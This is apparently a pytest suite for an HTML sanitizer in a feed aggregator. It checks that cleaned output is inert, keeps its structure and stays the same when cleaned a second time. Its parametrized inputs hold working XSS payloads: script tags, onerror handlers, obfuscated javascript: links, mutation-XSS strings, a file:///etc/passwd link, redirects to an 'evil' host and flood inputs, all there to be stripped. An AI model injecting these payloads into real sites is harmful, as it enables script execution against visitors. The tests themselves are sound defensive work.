"""Whatever HTML comes in: what goes out is safe, readable, and stays as it is when cleaned again."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml.html import document_fromstring

from aggregator.models import Entry
from aggregator.scrape import clean_entry, clean_html, plain, to_text
from aggregator.scrape.clean.clean import ATTRIBUTES, TAGS

BASE = "https://example.org/blog/post"


def _assert_inert(html: str) -> None:
    """No element, attribute or scheme beyond the few that are allowed, however the text is parsed."""
    if not html:
        return
    for node in document_fromstring(f"<html><body>{html}</body></html>").iterdescendants():
        if node.tag in ("body", "head"):
            continue
        assert node.tag in TAGS
        assert set(node.attrib) <= ATTRIBUTES.get(str(node.tag), set()) | ATTRIBUTES["*"]
        assert node.get("dir", "auto") in ("ltr", "rtl", "auto")
        for name in ("href", "src"):
            if value := node.get(name):
                assert value.startswith(("https://", "http://", "mailto:"))


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<p onclick='alert(1)'>x</p>",
        "<style>*{background:url(//evil)}</style>", "<meta http-equiv=refresh content='0;url=//evil'>", "<base href=//evil/>",
        "<form action=//evil><input name=pw><button formaction=//evil>x</button></form>", "<link rel=stylesheet href=//evil>",
    ],
)  # fmt: skip
def test_a21_script_handlers_style_meta_base_and_forms_go(html: str) -> None:
    """Nothing that runs, styles, redirects or asks for input survives."""
    cleaned = clean_html(f"<p>before</p>{html}<p>after</p>", BASE)
    _assert_inert(cleaned)
    assert "evil" not in cleaned
    assert "alert" not in cleaned
    assert "before" in cleaned
    assert "after" in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#x09;script:alert(1)", "java&NewLine;script:alert(1)",
        "&#106;avascript&colon;alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:x", "javascript://example.org/%0aalert(1)",
        "file:///etc/passwd", "blob:https://x/y", "data:text/html,<script>alert(1)</script>", "view-source:http://x", "intent://x",
    ],
)  # fmt: skip
def test_a22_links_lead_to_pages_and_mail_only(href: str) -> None:
    """A link with any other scheme, however it is spelled, becomes its text."""
    cleaned = clean_html(f'<a href="{href}">text</a>', BASE)
    _assert_inert(cleaned)
    assert "href" not in cleaned
    assert "text" in cleaned


@pytest.mark.parametrize(
    "html",
    [
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<object data="data:text/html,x">', "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
        '<image src="data:image/png;base64,AAAA">',
    ],
)  # fmt: skip
def test_a23_data_documents_and_svg_go(html: str) -> None:
    """Documents inside attributes and vector drawings are dropped."""
    assert clean_html(html, BASE) == ""


def test_a24_srcdoc_and_formaction_go() -> None:
    """A frame's own document is not kept; its address becomes a plain link."""
    cleaned = clean_html('<iframe srcdoc="<script>alert(1)</script>" src="https://player.example/v/1"></iframe>', BASE)
    assert cleaned == '<p><a href="https://player.example/v/1">Embedded: player.example</a></p>'
    assert clean_html('<button formaction="javascript:alert(1)">x</button>', BASE) == ""


@pytest.mark.parametrize(
    "html",
    [
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg><desc><noscript><style></noscript><img src=x onerror=alert(1)>", "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<title><a title='</title><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<select><template><style></template><img src onerror=alert(1)></select>",
        "<p>&lt;img src=x onerror=alert(1)&gt;</p>", "<a title='--!><img src=x onerror=alert(1)>'>x</a>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    ],
)  # fmt: skip
def test_a25_mutations_are_inert_when_parsed_again(html: str) -> None:
    """What changes its meaning between two parsers has none left."""
    cleaned = clean_html(html, BASE)
    _assert_inert(cleaned)
    _assert_inert(clean_html(cleaned, None))
    assert clean_html(cleaned, None) == cleaned


def test_a26_javascript_in_an_entry_goes() -> None:
    """The text of the link stays."""
    entry = Entry(guid="1", url=None, title="x", html='<a href="javascript://x/%0aalert(1)">y</a>')
    assert clean_entry(entry, BASE).html == "<p>y</p>"


def test_a27_ids_and_names_go() -> None:
    """Nothing can stand in for a property of the page that shows it."""
    assert (
        clean_html('<p id="location" name="cookie"><img name=body id=forms src="/x.png"></p>', BASE)
        == '<p><img src="https://example.org/x.png" alt=""></p>'
    )


def test_a28_names_are_plain_text_already_and_are_not_decoded_again() -> None:
    """A title about markup stays one; blanks are folded, tags come once."""
    entry = Entry(
        guid="1",
        url=None,
        title="Why &lt;b&gt; is <b>\r\nand &amp;amp; is not",
        author=" J&#246;rg ",
        tags=("<i>a</i>", "<i>a</i>", " b &amp; c"),
    )
    cleaned = clean_entry(entry, BASE)
    assert cleaned.title == "Why &lt;b&gt; is <b> and &amp;amp; is not"
    assert (cleaned.author, cleaned.tags) == ("J&#246;rg", ("<i>a</i>", "b &amp; c"))


def test_a28_markup_in_a_line_is_text() -> None:
    """What is known to be HTML comes out as a person would write it."""
    assert plain("AT&amp;T <script>x</script>& <b>co</b>") == "AT&T & co"
    assert plain("if a < b and c > d") == "if a < b and c > d"


@pytest.mark.parametrize(
    "image",
    [
        '<img src="https://t.example/x.gif" width="1" height="1">', '<img src="https://t.example/x.gif" style="display:none">',
        '<img src="https://t.example/x.gif" height=0>', '<img src="https://feeds.feedburner.com/~r/x/~4/y">', '<img src="https://pixel.wp.com/b.gif?x">',
        '<img src="https://x.example/pixel.gif">', '<img src="https://ad.doubleclick.net/x">', '<img style="width: 1px; height:1px" src="https://t.example/p">',
        '<img src="https://blogger.googleusercontent.com/tracker/857/post">', '<img src="https://medium.com/_/stat?event=post.clientViewed">',
        '<img src="https://x.example/matomo.php?idsite=1">', '<img src="https://px.ads.linkedin.com/collect/?pid=1&amp;fmt=gif">',
        '<img src="https://u1.ct.example.net/wf/open?upn=x">', '<img src="https://x.list-manage.example/track/open.php?u=1">',
        '<img src="https://t.co/i/adsct?x=1">', '<img src="https://stats.wp.com/g.gif?v=1">', '<img src="https://x.example/1x1.gif?r=5">',
        '<img src="https://x.example/akam/13/pixel_1cf1b50b?a=dD">', '<img src="https://x.example/blank-1x1.png">',
    ],
)  # fmt: skip
def test_a30_tracking_pixels_go(image: str) -> None:
    """Images that only count readers are not shown."""
    assert clean_html(f"<p>text {image}</p>", BASE) == "<p>text</p>"


@pytest.mark.parametrize(
    "path",
    [
        "//whatpixel.example/2016/code.jpg", "//cdn.shortpixel.example/ret_img/https://x.example/graph.jpg", "//x.example/pixel-9-exploit.png",
        "//x.example/beacon-config.png", "//x.example/track-record.png", "//x.example/lazyscripter-chain.png", "//x.example/loading-a-dll.png",
        "//x.example/blank-rome.jpg", "//x.example/pixel-9.png", "//x.example/facebook.com/trends.png",
    ],
)  # fmt: skip
def test_a_picture_of_a_pixel_stays(path: str) -> None:
    """Names that only begin as those of tracking pixels and placeholders do: of telephones, beacons, loaders."""
    assert f'src="https:{path}"' in clean_html(f"<p>text <img src='{path}'></p>", BASE)


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "x", "<b>" * 100_000 + "x", "<b><p>x" * 50_000, "<blockquote>x" * 50_000, "<ul><li>x" * 50_000, "<table><tr><td>x<td>y" * 20_000,
        "<table><tr>" + "<td>x" * 100_000, "<figure>x" * 50_000, "<dl><dd>x" * 20_000, "<br>x" * 200_000, "<a href=http://x/>y" * 100_000,
        "<p " + " ".join(f'a{i}="1"' for i in range(60_000)) + ">x", "<p " + "/".join(f"a{i}" for i in range(60_000)) + ">x",
        "<p " + "".join(f'a{i}=">"' for i in range(60_000)) + ">x", "<!--" * 250_000, "<" * 1_000_000, "&#x" * 300_000, "x y " * 500_000,
        "<p><font><b><i><u>" * 20_000 + "x",
    ],
)  # fmt: skip
def test_a19_floods_end_in_two_seconds(html: str) -> None:
    """A hundred thousand nested tags, sixty thousand attributes and the like take no longer than an article."""
    start = time.process_time()
    cleaned = clean_html(html, BASE)
    assert time.process_time() - start < 4  # two seconds where nothing else runs
    _assert_inert(cleaned)


def test_structure_survives() -> None:
    """Headings, lists, tables, quotes, code and figures are what they were."""
    html = (
        '<h2 class="x">Head <em>two</em></h2><div>Loose <b>text</b><div>and more</div></div><ol start="3"><li>three<ul><li>inner</li></ul></li></ol>'
        '<table><thead><tr><th>a</th><th>b</th></tr></thead><tr><td colspan="2">1</td></tr></table><blockquote>said</blockquote>'
        '<figure><img src="/i.png" alt="An i"><figcaption>A caption</figcaption></figure>'
    )
    assert clean_html(html, BASE) == (
        "<h2>Head <em>two</em></h2><p>Loose <strong>text</strong></p><p>and more</p><ol start=\"3\"><li>three<ul><li>inner</li></ul></li></ol>"
        '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table><blockquote><p>said</p></blockquote>'
        '<figure><img src="https://example.org/i.png" alt="An i"><figcaption>A caption</figcaption></figure>'
    )  # fmt: skip


@pytest.mark.parametrize(
    ("html", "text"),
    [
        (
            "<pre>rule x {\n  strings:\n    $a = { 6A 40 }\n\n  condition: $a\n}</pre>",
            "rule x {\n  strings:\n    $a = { 6A 40 }\n\n  condition: $a\n}",
        ),
        ('<pre><code class="language-yara">a <span class="k">and</span>  b</code></pre>', "a and  b"),
        ("<pre>one<br>two<br/>three</pre>", "one\ntwo\nthree"),
        ("<pre><div>one</div><div>  two</div></pre>", "one\n  two"),
        (
            '<table class="hl"><tr><td class="gutter"><pre>1\n2</pre></td><td class="code"><pre>a\n b</pre></td></tr></table>',
            "a\n b",
        ),
        ("<pre>a &lt; b &amp;&amp; c\t| grep 'x'</pre>", "a < b && c\t| grep 'x'"),
    ],
)
def test_code_survives_to_the_letter(html: str, text: str) -> None:
    """Indicators, rules and commands come out as a person would copy them."""
    cleaned = clean_html(html, BASE)
    assert cleaned.startswith("<pre>")
    assert to_text(cleaned) == text


@pytest.mark.parametrize(
    ("html", "source"),
    [
        ('<img data-src="/a.jpg" src="data:image/gif;base64,AA">', "https://example.org/a.jpg"),
        ('<img src="/placeholder.png" data-lazy-src="b.jpg">', "https://example.org/blog/b.jpg"),
        ('<img srcset="/s.jpg 300w, /m.jpg 900w, /l.jpg 3000w">', "https://example.org/m.jpg"),
        ('<picture><source srcset="/p.webp 800w"><img></picture>', "https://example.org/p.webp"),
        ('<img src="//cdn.example/x.png">', "https://cdn.example/x.png"),
        ('<img src="data:x" data-src="/c.jpg"><noscript><img src="/c.jpg"></noscript>', "https://example.org/c.jpg"),
    ],
)
def test_images_are_found_where_lazy_loading_hides_them(html: str, source: str) -> None:
    """One image with its absolute address."""
    cleaned = clean_html(html, BASE)
    assert cleaned.count("<img") == 1
    assert f'src="{source}"' in cleaned


def test_embedded_media_become_links() -> None:
    """Players are named and linked, not run."""
    assert clean_html('<iframe src="https://www.youtube.com/embed/abcdef12345" title="A talk">', BASE) == (
        '<p><a href="https://www.youtube.com/watch?v=abcdef12345">Embedded: A talk</a></p>'
    )
    assert (
        clean_html('<video><source src="/v.mp4"></video>', BASE)
        == '<p><a href="https://example.org/v.mp4">Video: example.org</a></p>'
    )


@pytest.mark.parametrize(
    ("html", "link"),
    [
        ('<script src="https://gist.github.com/jane/abc123.js"></script>', "https://gist.github.com/jane/abc123"),
        ('<script src="//gist.github.com/jane/abc123.js?file=a.yar"></script>', "https://gist.github.com/jane/abc123"),
        ('<iframe src="https://platform.twitter.com/embed/Tweet.html?dnt=true&id=123456"></iframe>', "https://twitter.com/i/status/123456"),
    ],
)  # fmt: skip
def test_embedded_listings_and_posts_become_links(html: str, link: str) -> None:
    """What a script or a frame would show is linked, at the address that a person would open."""
    assert f'<p><a href="{link}">' in clean_html(html, BASE)


@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="https://tags.example/ns.html?id=1" height="0" width="0"></iframe>', '<iframe src="https://tags.example/" style="display:none"></iframe>',
        '<script src="https://tags.example/gist.github.com/jane/abc123.js"></script>', '<script src="https://gist.github.com/jane/abc.js@evil"></script>',
    ],
)  # fmt: skip
def test_what_is_not_shown_is_not_linked(html: str) -> None:
    """The frame of a tag manager is no embedded medium, nor is any script but a listing's."""
    assert clean_html(f"<p>a</p>{html}", BASE) == "<p>a</p>"


def test_captions_as_wordpress_used_to_write_them() -> None:
    """A picture and its caption in a `div` are a figure."""
    html = '<div class="wp-caption alignleft"><img src="/a.png" alt="x"><p class="wp-caption-text">The <em>packet</em></p></div>'
    assert clean_html(html, BASE) == (
        '<figure><img src="https://example.org/a.png" alt="x"><figcaption>The <em>packet</em></figcaption></figure>'
    )


def test_text_is_paragraphs() -> None:
    """A blank line between paragraphs, one line for a list item or a row of a table."""
    html = clean_html(
        "<p>One<br>two</p><ul><li>a<li>b</ul><table><tr><td>1<td>2<tr><td>3<td>4</table><pre>x\n\n y</pre>", BASE
    )
    assert to_text(html) == "One\ntwo\n\n- a\n- b\n\n1 | 2\n3 | 4\n\nx\n\n y"


_PIECES = st.sampled_from(
    ["<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<a href='/x'>", "</a>", "<ul>", "<li>", "</ul>", "<table><tr>", "<td>", "</table>", "<br>", "<pre>",
     "</pre>", "<h2>", "</h2>", "<blockquote>", "</blockquote>", "<img src='/i.png'>", "<figure>", "<figcaption>", "</figure>", "<dl>", "<dt>", "<dd>", "<code>",
     "</code>", "<ol>", "<svg>", "<math>", "<style>", "<!--", "-->", "<form>", "<iframe src='//x.org'>", "<hr>", "<noscript>", "<em>", "<span>", "&amp;", "&lt;", "\n",
     " ", "text", "a b", "<ruby>", "<rt>", "<details>", "<summary>", "<q>", "<del>", "<p><p>", "<th>", "<caption>", "<tbody>", "\xa0", "<sub>", "<select>"]
)  # fmt: skip


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.lists(_PIECES, max_size=25).map("".join), st.text(max_size=60)))
def test_cleaning_twice_is_cleaning_once(html: str) -> None:
    """For any input the result is inert, and a fixed point."""
    cleaned = clean_html(html, BASE)
    _assert_inert(cleaned)
    assert clean_html(cleaned, "https://other.example/") == cleaned


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<p dir="rtl">שלום</p>', '<p dir="rtl">שלום</p>'),
        ('<p dir="RTL ">שלום</p>', '<p dir="rtl">שלום</p>'),
        ('<p dir="evil">x</p>', "<p>x</p>"),
        (
            '<div dir="rtl"><p>a</p><pre dir="ltr">b</pre></div><p>c</p>',
            '<p dir="rtl">a</p><pre dir="ltr">b</pre><p>c</p>',
        ),
        (
            '<div dir="rtl"><ul><li dir="ltr">a</li><li>b</li></ul></div>',
            '<ul dir="rtl"><li dir="ltr">a</li><li>b</li></ul>',
        ),
        ('<blockquote dir="rtl"><p>a</p><p>b</p></blockquote>', '<blockquote dir="rtl"><p>a</p><p>b</p></blockquote>'),
        (
            '<p>a <span dir="rtl">b</span> <code dir="ltr">c</code></p>',
            '<p>a <bdi dir="rtl">b</bdi> <code dir="ltr">c</code></p>',
        ),
        ('<h2 dir="auto">a</h2><div dir=auto>b', '<h2 dir="auto">a</h2><p dir="auto">b</p>'),
        (
            "<table dir=rtl><tr><td dir=ltr>a<td>b<tr><td>c<td>d</table>",
            '<table dir="rtl"><tbody><tr><td dir="ltr">a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></tbody></table>',
        ),
    ],
)
def test_which_way_a_text_runs_is_kept(html: str, expected: str) -> None:
    """On the element that says so, or, where that only arranges, on the blocks in it."""
    assert clean_html(html, BASE) == expected
    assert clean_html(expected, None) == expected
